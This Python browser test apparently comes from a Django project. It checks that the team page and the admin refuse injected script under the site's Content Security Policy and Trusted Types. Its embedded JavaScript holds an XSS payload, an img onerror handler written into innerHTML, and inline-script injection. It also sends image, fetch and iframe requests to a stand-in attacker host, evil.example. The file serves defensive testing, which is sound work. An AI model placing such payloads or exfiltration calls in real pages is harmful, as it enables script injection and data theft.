"""What a script that somebody slipped into a page may do: nothing."""

from typing import Any

import pytest

from accounts.models import User
from tests.carers import browser_of
from tests.conftest import DESK

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

TRY = """async () => {
  const refused = new Set();
  document.addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
  const done = [];
  const attempt = (name, act) => { try { act(); done.push(name); } catch {} };
  const policy = { createHTML: (text) => text };
  const evil = "<img src=x onerror='globalThis.ran = true'>";
  attempt("text as a page", () => { document.body.innerHTML = evil; });
  attempt("a policy of its own", () => { trustedTypes.createPolicy("evil", policy); });
  attempt("a worker of its own", () => { new Worker("/static/js/outbox.js"); });
  attempt("an address as a script", () => { document.createElement("script").src = "/static/js/print.js"; });
  const inline = document.createElement("script");
  attempt("words as a script", () => { inline.append("globalThis.ran = true"); });
  attempt("words as a script", () => { document.head.append(inline); });
  const style = document.createElement("style");
  style.textContent = "main { display: none }";
  document.head.append(style);
  const image = new Image();
  image.src = "https://evil.example/?rosa";
  await fetch("https://evil.example/?rosa").catch(() => {});
  const frame = document.createElement("iframe");
  frame.src = "https://evil.example/?rosa";
  document.body.append(frame);
  await new Promise((resolve) => setTimeout(resolve, 300));
  if (globalThis.ran) done.push("a script in the page");
  return { done, refused: [...refused].sort() };
}"""
REFUSED = {
    *("connect-src", "frame-src", "img-src", "require-trusted-types-for", "style-src-elem", "trusted-types")
}


def test_on_a_page_of_ours_and_in_the_admin(chromium: Any, live_server: Any, amira: User, ada: User) -> None:
    for user, path in ((amira, "/team/"), (ada, "/admin/")):
        context = chromium.new_context(base_url=live_server.url, viewport=DESK)
        cookie = {"name": "sessionid", "value": browser_of(user).cookies["sessionid"].value}
        context.add_cookies([cookie | {"url": live_server.url}])
        page = context.new_page()
        assert page.goto(path).status == 200
        told = page.evaluate(TRY)
        context.close()
        assert set(told["done"]) <= {"words as a script"}, path  # may be put in, and does not run
        assert set(told["refused"]) >= REFUSED, path
